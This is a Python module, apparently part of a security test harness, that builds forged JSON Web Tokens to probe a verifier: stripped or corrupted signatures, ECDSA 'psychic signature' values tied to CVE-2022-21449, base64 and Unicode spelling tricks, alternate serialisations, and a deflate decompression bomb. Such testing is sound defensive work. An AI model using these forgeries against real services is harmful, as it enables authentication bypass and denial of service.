"""Attacks on the form: one token in two spellings, other serialisations, signatures that sign nothing."""

from __future__ import annotations

import json
import zlib
from collections.abc import Callable
from typing import Final

from support.forge import b64, unb64

from attacks.loot import NO_REQUEST, OURS, Attack, Forge, Loot, attacks, compact, under, wire

_ALPHABET: Final = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
# The order of P-256: r = s = 0 was CVE-2022-21449, and other edges of the range have passed elsewhere.
_ORDER: Final = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551


def _with_signature(make: Callable[[bytes], bytes]) -> Forge:
    return lambda loot: ".".join(loot.segments[:2]) + "." + b64(make(unb64(loot.segments[2])))


def _pair(r: int, s: int) -> Forge:
    """A signature of ECDSA under a header that asks for it."""
    return lambda loot: under(alg="ES256")(loot).rpartition(".")[0] + "." + b64(r.to_bytes(32) + s.to_bytes(32))


def _stray(segment: str) -> str:
    """The same bytes under another last character, for a segment that has bits to spare."""
    return segment[:-1] + _ALPHABET[_ALPHABET.index(segment[-1]) + 1]


def _stray_payload(loot: Loot) -> str:
    """Whatever the length of the genuine payload, one with bits to spare; well signed."""
    for pad in ("", "x", "xx"):
        segment = b64(compact({"pad": pad, **loot.claims}))
        if len(segment) % 4:
            return loot.signed(loot.segments[0], _stray(segment))
    raise AssertionError("base64 leaves bits to spare in two of three lengths")


def _of_the_other_alphabet(loot: Loot) -> str:
    """A payload in which `+` and `/` stand, well signed."""
    segment = b64(compact({"x": "???>>>~~~", **loot.claims}) + b"   ")
    if not set("-_") & set(segment):
        raise AssertionError("the alphabets differ in what is not there")
    return loot.signed(loot.segments[0], segment.replace("-", "+").replace("_", "/"))


def _spelled(make: Callable[[str], str]) -> Forge:
    """The payload's segment in another spelling, well signed as it stands."""
    return lambda loot: loot.signed(loot.segments[0], make(loot.segments[1]))


def _general(loot: Loot) -> str:
    header, payload, signature = loot.segments
    return json.dumps({"payload": payload, "signatures": [{"protected": header, "signature": signature}]})


def _flattened(loot: Loot) -> str:
    header, payload, signature = loot.segments
    return json.dumps({"protected": header, "payload": payload, "signature": signature}, separators=(",", ":"))


def _jwe(loot: Loot) -> str:
    header = b64(compact({"alg": "dir", "enc": "A128GCM", "cty": "JWT", "kid": loot.header["kid"], "typ": loot.header["typ"]}))
    return f"{header}..{b64(bytes(12))}.{b64(loot.token.encode())}.{b64(bytes(16))}"


def _bomb(loot: Loot) -> str:
    """Ten megabytes in ten kilobytes, for who inflates before he verifies."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = packer.compress(b" " * 10_000_000) + packer.flush()
    return loot.signed(b64(compact(loot.header | {"zip": "DEF"})), b64(packed[:10_000]))


SIGNATURES: Final = [
    *attacks("signature", {
        "left out": lambda loot: ".".join(loot.segments[:2]),
        "empty": lambda loot: ".".join(loot.segments[:2]) + ".",
        "of zeros": _with_signature(lambda raw: bytes(len(raw))),
        "of ones": _with_signature(lambda raw: b"\xff" * len(raw)),
        "cut to a byte": _with_signature(lambda raw: raw[:1]),
        "cut by a byte": _with_signature(lambda raw: raw[:-1]),
        "with a byte more": _with_signature(lambda raw: raw + b"\0"),
        "with a byte before": _with_signature(lambda raw: b"\0" + raw),
        "twice": _with_signature(lambda raw: raw + raw),
        "backwards": _with_signature(lambda raw: raw[::-1]),
        "one bit flipped": _with_signature(lambda raw: raw[:-1] + bytes([raw[-1] ^ 1])),
        "of 10 KB": _with_signature(lambda raw: raw * 300),
        "of another kind of token": lambda loot: ".".join(loot.segments[:2]) + "." + next(
            token for token in loot.kinds.values() if token != loot.token).split(".")[2],
        "of the payload alone": lambda loot: ".".join(loot.segments[:2]) + "." + b64(loot.sign(loot.segments[1].encode())),
        "of the decoded parts": lambda loot: ".".join(loot.segments[:2]) + "." + b64(
            loot.sign(compact(loot.header) + b"." + compact(loot.claims))),
        "of an empty message": lambda loot: ".".join(loot.segments[:2]) + "." + b64(loot.sign(b"")),
        "in hex": lambda loot: ".".join(loot.segments[:2]) + "." + unb64(loot.segments[2]).hex(),
        "the word null": lambda loot: ".".join(loot.segments[:2]) + ".null",
    }),
    *attacks("psychic signature", {
        "r = s = 0": _pair(0, 0), "r = 0": _pair(0, 1), "s = 0": _pair(1, 0), "r = s = 1": _pair(1, 1),
        "r = s = n": _pair(_ORDER, _ORDER),
        "r = n, s = 1": _pair(_ORDER, 1), "s = n": _pair(1, _ORDER), "r = s = 2^256 - 1": _pair(2**256 - 1, 2**256 - 1),
        "in DER": lambda loot: under(alg="ES256")(loot).rpartition(".")[0] + "." + b64(bytes.fromhex("3006020100020100")),
        "of EdDSA": lambda loot: under(alg="EdDSA")(loot).rpartition(".")[0] + "." + b64(b"\1" + bytes(63)),
        "of RSA": lambda loot: under(alg="RS256")(loot).rpartition(".")[0] + "." + b64(bytes(256)),
        "under our own header": lambda loot: ".".join(loot.segments[:2]) + "." + b64(bytes(64)),
    }),
]  # fmt: skip
BASE64: Final = [
    *attacks("base64", {
        "signature padded": lambda loot: loot.token + "=",
        "signature padded twice": lambda loot: loot.token + "==",
        "signature with stray bits": lambda loot: ".".join(loot.segments[:2]) + "." + _stray_signature(loot),
        "header padded": lambda loot: "{}=.{}.{}".format(*loot.segments),
        "header padded, well signed": lambda loot: loot.signed(loot.segments[0] + "=", loot.segments[1]),
        "payload padded, well signed": _spelled(lambda segment: segment + "=" * (-len(segment) % 4 or 4)),
        "payload with stray bits, well signed": _stray_payload,
        "the other alphabet, well signed": _of_the_other_alphabet,
        "the other alphabet": lambda loot: loot.token.replace("-", "+").replace("_", "/") + "+/",
        "a blank, well signed": _spelled(lambda segment: segment[:8] + " " + segment[8:]),
        "a tab, well signed": _spelled(lambda segment: segment[:8] + "\t" + segment[8:]),
        "a dot in the payload, well signed": _spelled(lambda segment: segment[:8] + "." + segment[8:]),
        "a stray character, well signed": _spelled(lambda segment: segment[:8] + "!" + segment[8:]),
        "a tilde, well signed": _spelled(lambda segment: segment + "~"),
        "one character too many, well signed": _spelled(lambda segment: segment + "A" * ((1 - len(segment)) % 4 or 4) + "A"),
        "no base64 at all, well signed": lambda loot: loot.signed(
            loot.segments[0], compact(loot.claims).decode().replace(".", "")),
        "in base64 twice": lambda loot: b64(loot.token.encode()),
        "in base32": lambda loot: loot.token.upper(),
        "in hex": lambda loot: loot.token.encode().hex(),
        "percent-encoded": lambda loot: loot.token.replace(".", "%2E"),
        "a folded line": lambda loot: loot.token + "\r\n\tx",
    }),
    *attacks("base64", {
        "a line end, well signed": _spelled(lambda segment: segment[:8] + "\n" + segment[8:]),
        "a line end behind": lambda loot: loot.token + "\nx",
        "NUL, well signed": _spelled(lambda segment: segment + "\0"),
        "NUL behind": lambda loot: loot.token + "\0",
    }, access=NO_REQUEST, refresh=NO_REQUEST, fresh=NO_REQUEST),
]  # fmt: skip
SERIALISATIONS: Final = attacks("serialisation", {
    "JSON, general": _general,
    "JSON, flattened": _flattened,
    "JSON of a list": lambda loot: json.dumps([loot.token]),
    "a JWE of five parts": _jwe,
    "a JWE around the genuine one": lambda loot: f"{loot.token}.AAAA.AAAA",
    "four parts": lambda loot: f"{loot.token}.AAAA",
    "four parts, the last empty": lambda loot: f"{loot.token}.",
    "a dot before": lambda loot: f".{loot.token}",
    "a nested JWT": lambda loot: loot.signed(b64(compact(loot.header | {"cty": "JWT"})), b64(loot.token.encode())),
    "a nested JWT under our header": lambda loot: loot.signed(loot.segments[0], b64(loot.token.encode())),
    "a detached payload": lambda loot: f"{loot.segments[0]}..{loot.segments[2]}",
    "a detached payload, well signed": lambda loot: loot.signed(loot.segments[0], ""),
    "an SD-JWT": lambda loot: f"{loot.token}~{b64(b'[1,2,3]')}~",
    "an SD-JWT with nothing": lambda loot: f"{loot.token}~",
    "a PASETO": lambda loot: f"v4.public.{loot.segments[1]}{loot.segments[2]}",
    "a bomb": _bomb,
    "zip, and honestly deflated": lambda loot: loot.signed(
        b64(compact(loot.header | {"zip": "DEF"})), b64(zlib.compress(compact(loot.claims))[2:-4])),
    "two tokens": lambda loot: f"{loot.token}{loot.token}",
    "two tokens with a comma": lambda loot: f"{loot.token},{loot.token}",
    "parts swapped": lambda loot: "{1}.{0}.{2}".format(*loot.segments),
    "nothing but dots": lambda loot: "..",
    "many dots": lambda loot: "." * 9_000,
    "of 17 KB, well signed": lambda loot: loot.signed(loot.segments[0], b64(compact({"x": "y" * 12_500, **loot.claims}))),
    "of 60 KB": lambda loot: loot.token + "A" * 60_000,
})  # fmt: skip
UNICODE: Final = attacks("characters", {
    "full-width dots": lambda loot: wire(loot.token.replace(".", "\uff0e")),
    "a full-width letter": lambda loot: wire(loot.token.replace("e", "\uff45", 1)),
    "a Cyrillic letter": lambda loot: wire(loot.token.replace("e", "\u0435", 1)),
    "the sign for Kelvin": lambda loot: wire(loot.token + "\u212a"),
    "Arabic digits": lambda loot: wire(loot.token + "\u0661"),
    "a BOM before": lambda loot: wire("\ufeff" + loot.token),
    "a zero-width space inside": lambda loot: wire(loot.token[:9] + "\u200b" + loot.token[9:]),
    "written from right to left": lambda loot: wire("\u202e" + loot.token),
    "a no-break space behind": lambda loot: loot.token + "\xa0",
    "half a surrogate pair": lambda loot: wire(loot.token + "\ud800"),
    "a surrogate pair, each half by itself": lambda loot: wire(loot.token + "\ud83d\ude00"),
    "an overlong dot": lambda loot: loot.token.replace(".", "\xc0\xae"),
    "a combining mark": lambda loot: wire(loot.token + "\u0301"),
    "bytes of no UTF-8": lambda loot: loot.token + "\xff\xfe",
    "an emoji": lambda loot: wire("\U0001f511"),
})  # fmt: skip
QUOTED: Final = [
    # RFC 6265 section 4.1.1 has quotes around a cookie's value, and some clients write them: there it is the genuine one.
    Attack(name="characters: quotes around it", forge=lambda loot: f'"{loot.token}"', refresh=OURS, fresh=OURS, asks=True),
    Attack(
        name="characters: blanks around it",
        forge=lambda loot: f"  {loot.token}  ",
        access=OURS,
        asks=True,
    ),
    Attack(name="characters: single quotes around it", forge=lambda loot: f"'{loot.token}'"),
    Attack(name="characters: the scheme before it", forge=lambda loot: f"Bearer {loot.token}"),
]
FORMS: Final = [*SIGNATURES, *BASE64, *SERIALISATIONS, *UNICODE, *QUOTED]


def _stray_signature(loot: Loot) -> str:
    """Of a signature whose length leaves no bits to spare, one character more."""
    segment = loot.segments[2]
    return _stray(segment) if len(segment) % 4 else segment + "A"
